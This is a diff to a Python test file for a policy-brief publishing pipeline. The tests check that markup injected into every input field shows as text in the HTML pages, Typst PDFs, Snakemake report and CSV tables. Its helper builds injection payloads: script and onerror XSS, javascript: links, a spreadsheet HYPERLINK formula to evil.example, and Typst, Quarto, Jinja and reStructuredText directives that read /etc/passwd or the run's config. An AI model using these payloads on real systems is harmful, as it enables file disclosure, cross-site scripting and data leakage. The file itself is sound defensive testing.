@@ -1,8 +1,20 @@
 """Markup in every free-text field of every input file, on a copy of the shared clean build:
 the document inventory, the edition's config, a plug-in data file and the catalogue. Each
 field's value reaches the web pages and the PDFs (through Typst) as the text it is, never as
-HTML, Markdown or Typst; Data Docs carry no markup from data either. Fields that the brief
-does not publish are shown to reach no output at all."""
+HTML, Markdown, Typst, a Quarto shortcode or Jinja; Data Docs carry no markup from data
+either, Snakemake's report shows it as text (through Jinja and reStructuredText), and no CSV
+file holds it as a spreadsheet formula. Fields that the brief does not publish are shown to
+reach no output at all.
+
+Which test covers which engine that data passes through:
+- HTML and Markdown (Pandoc, Quarto), Typst (both PDFs), Quarto's shortcodes, the brief's
+  own Jinja templates: test_each_input_field_is_shown_as_the_text_it_is, with both engines,
+  and test_markup_from_any_input_field_runs_nowhere_in_the_pages_we_write (Data Docs too);
+- Snakemake's report (Jinja, then reStructuredText): test_snakemake_report_shows_the_data_as_text
+  (and tests/test_report_captions.py);
+- spreadsheets opening our CSV files: test_no_csv_file_holds_a_spreadsheet_formula (and
+  tests/test_tables.py).
+"""
 
 import csv
 import io
@@ -13,6 +25,10 @@ from html.parser import HTMLParser
 import pytest
 import yaml
 from pypdf import PdfReader
+from test_snakemake_report_e2e import build_report, captions_in, description_in
+from test_tables import cells_as_written, opens_as_formula
+
+from policybrief.tables import read_rows
 
 from conftest import set_engine, snakemake
 
@@ -32,10 +48,39 @@ FIELDS = ([f"documents.{name}" for name in DOCUMENT_FIELDS] + [f"edition.{name}"
 
 
 def hostile(field: str) -> str:
-    """HTML, Markdown and Typst markup around the field's name (no digits: the brief's own
-    check would rightly refuse a number that traces to no table)."""
-    return (f'<script>alert("{field}")</script><img src=x onerror=alert(document.cookie)> *{field}* '
-            "#tag `code` @cite $x$ [link](javascript:alert(document.cookie)) <!-- c --> \\ = ~")
+    """What each engine the text passes through would run, around the field's name: a spreadsheet
+    formula first (the CSV tables), HTML, Markdown, Typst (a file read, an import), Quarto's
+    shortcodes, Jinja (the brief's templates, Snakemake's report) and reStructuredText (the
+    report's captions). No digits: the brief's own check would rightly refuse a number that
+    traces to no table."""
+    return (f'=HYPERLINK("http://evil.example/?{field}","click") '
+            f'<script>alert("{field}")</script><img src=x onerror=alert(document.cookie)> *{field}* '
+            "#tag `code` @cite $x$ [link](javascript:alert(document.cookie)) <!-- c --> \\ = ~ "
+            f'#read("/etc/passwd") #import "{field}.typ": * '
+            + ("" if field in BRACES_REFUSED else TEMPLATE_SYNTAX.replace("FIELD", field))
+            + ".. include:: /etc/passwd |rst| `rst <javascript:alert(document.domain)>`_")
+
+
+# Quarto's shortcodes and Jinja. Had they run, the page would show what RUN_MARKS lists, or the
+# field's name in capitals. A wording's braces are its own slots ({value}), and the catalogue
+# refuses any other, so that field goes without.
+TEMPLATE_SYNTAX = ('{{< include /etc/passwd >}} {{< meta FIELD >}} {{< var FIELD >}} {{ "FIELD"|upper }} '
+                   '{{ snakemake.config }} {% for a in "abcdefghij" %}x{% endfor %} ')
+BRACES_REFUSED = {"catalogue.wording"}
+RUN_MARKS = ["root:x:", "xxxxxxxxxx", "'engine': '"]
+
+
+def printed_marks(field: str) -> list[str]:
+    """What the PDF's text (white space removed) shows of the field's markup when it is text:
+    short pieces that name the field, as a page break (with its running header) may cut a longer one."""
+    marks = [f'alert("{field}")', f"*{field}*", f'"{field}.typ":*']
+    if field not in BRACES_REFUSED:
+        marks += [f"{{{{<meta{field}>}}}}", f'{{{{"{field}"|upper}}}}']
+    return marks
+
+
+# The same for every field: printed at least once.
+PRINTED_ONCE = ['#read("/etc/passwd")', "{{<include/etc/passwd>}}", '{%forain"abcdefghij"%}x{%endfor%}']
 
 
 def scalar(text: str) -> str:
@@ -65,6 +110,11 @@ def write_hostile_inputs(project) -> None:
     writer.writerow(["indicator", "period", "value", "unit", *PLUGIN_FIELDS])
     writer.writerow(["asylum_applications", "2010", "19941", "count",
                      *(hostile(f"plugin.{name}") for name in PLUGIN_FIELDS)])
+    # A new period of a known series: drawn in the figure of indicators across periods, whose
+    # caption (in the brief and in Snakemake's report) cites the file's source.
+    writer.writerow(["high_education_share_recent", "2006-2010", "36", "percent", "Belgium",
+                     "Naturalised and non-naturalised foreigners",
+                     *(hostile(f"plugin.{name}") for name in ("source", "label", "note"))])
     (project / "data/supplementary").mkdir(parents=True, exist_ok=True)
     (project / "data/supplementary/hostile.csv").write_text(rows.getvalue(), encoding="utf-8")
 
@@ -141,12 +191,14 @@ def hostile_build(request, hostile_pandoc, tmp_path_factory):
 @pytest.fixture(scope="module")
 def shown(hostile_build) -> dict:
     """What a reader sees: the text of both web pages, and of both PDFs, read once per build."""
-    pages = [Page((hostile_build / f"reports/{name}.html").read_text(encoding="utf-8")) for name in ("brief", "annex")]
+    # (An empty span keeps apart the characters of a shortcode in the title block: it shows nothing.)
+    pages = [Page((hostile_build / f"reports/{name}.html").read_text(encoding="utf-8").replace("<span></span>", ""))
+             for name in ("brief", "annex")]
     return {"web": " ".join(" ".join(" ".join(page.text).split()) for page in pages),
             "printed": "".join(pdf_text(hostile_build / f"reports/{name}.pdf") for name in ("brief", "annex"))}
 
 
-def test_markup_from_any_input_field_runs_nowhere_in_the_pages_we_write(hostile_build):
+def test_markup_from_any_input_field_runs_nowhere_in_the_pages_we_write(hostile_build, shown):
     pages = [hostile_build / "reports/brief.html", hostile_build / "reports/annex.html",
              *sorted((hostile_build / "reports/validation/data_docs").rglob("*.html"))]
     assert len(pages) > 10
@@ -155,6 +207,11 @@ def test_markup_from_any_input_field_runs_nowhere_in_the_pages_we_write(hostile_
         running = [item for item in Page(html).running if "alert(" in item or "src=x" in item or "javascript:" in item]
         assert not running, (path, running[:3])
         assert "<img src=x" not in html and '<script>alert("' not in html, path
+        assert [mark for mark in RUN_MARKS if mark in html] == [], path
+    # The PDFs print Typst's functions, shortcodes and Jinja's statements; none ran.
+    printed = shown["printed"]
+    assert [mark for mark in PRINTED_ONCE if mark not in printed.replace("-", "")] == []
+    assert [mark for mark in RUN_MARKS if mark.replace(" ", "") in printed] == []
 
 
 @pytest.mark.parametrize("field", FIELDS)
@@ -163,7 +220,54 @@ def test_each_input_field_is_shown_as_the_text_it_is(shown, field):
     if field in NOT_PUBLISHED:
         assert f'alert("{field}")' not in web + printed
         return
-    # The whole value as text on the web page: tags, Markdown and Typst marks included.
+    # The whole value as text on the web page: tags, Markdown, Typst marks, shortcodes and
+    # Jinja included.
     assert hostile(field) in web or field in PRINT_ONLY
-    # In the PDF, the script's words and the asterisks are printed, not obeyed.
-    assert f'alert("{field}")' in printed and f"*{field}*" in printed
+    # In the PDF, the script's words, the asterisks, Typst's functions, the shortcodes and
+    # Jinja's expressions are printed, not obeyed (a line may break a word with a hyphen).
+    unhyphenated = printed.replace("-", "")
+    assert [mark for mark in printed_marks(field) if mark.replace("-", "") not in unhyphenated] == []
+    assert field.upper() not in web + printed
+
+
+def shown_text(html: str) -> str:
+    return " ".join(" ".join(Page(html).text).split())
+
+
+def test_no_csv_file_holds_a_spreadsheet_formula(hostile_pandoc):
+    """Every field above begins with a formula (=HYPERLINK...). In every CSV file of the build
+    (the tables, the ledger, the figures' data, the kept edition's tables) it is text to a
+    spreadsheet, and reads back as given (test_each_input_field_is_shown_as_the_text_it_is:
+    the brief prints it as it was written)."""
+    files = [path for folder in ("data/processed", "reports", "editions")
+             for path in sorted((hostile_pandoc / folder).rglob("*.csv"))]
+    names = {path.relative_to(hostile_pandoc).as_posix() for path in files}
+    assert {"data/processed/facts.csv", "data/processed/supplementary.csv", "data/processed/documents.csv",
+            "reports/brief-numbers.csv", "reports/figures/periods.csv"} <= names
+    formulas = [(path.name, cell[:40]) for path in files for row in cells_as_written(path) for cell in row
+                if opens_as_formula(cell)]
+    assert formulas == []
+    facts = read_rows(hostile_pandoc / "data/processed/facts.csv")
+    plugged = [fact for fact in facts if fact["source"] == hostile("plugin.source")]
+    assert len(plugged) == 2 and {fact["note"] for fact in plugged} == {hostile("plugin.note")}
+    assert "'=HYPERLINK(" in (hostile_pandoc / "data/processed/facts.csv").read_text(encoding="utf-8")
+
+
+@pytest.fixture(scope="module")
+def hostile_report(hostile_pandoc, tmp_path_factory) -> str:
+    files = build_report(hostile_pandoc, tmp_path_factory.mktemp("markup-report"))
+    return files["report/report.html"].decode("utf-8")
+
+
+def test_snakemake_report_shows_the_data_as_text(hostile_report):
+    """Snakemake reads each caption as a Jinja template, with the run's config in reach, then as
+    reStructuredText: the figures' captions (a plug-in file's source, a document's citation) and
+    the captions and description that name the edition show them as written; no template ran,
+    and nothing became a link, an inclusion or raw HTML."""
+    parts = [*captions_in(hostile_report), description_in(hostile_report)]
+    shown = [shown_text(part) for part in parts]
+    for field in ("plugin.source", "documents.citation", "edition.title", "edition.name"):
+        assert any(" ".join(hostile(field).split()) in text for text in shown), field
+    assert [mark for mark in RUN_MARKS if mark in hostile_report] == []
+    assert [field for field in FIELDS if field.upper() in hostile_report] == []
+    assert [part for part in parts if "<a " in part or "<script" in part] == []
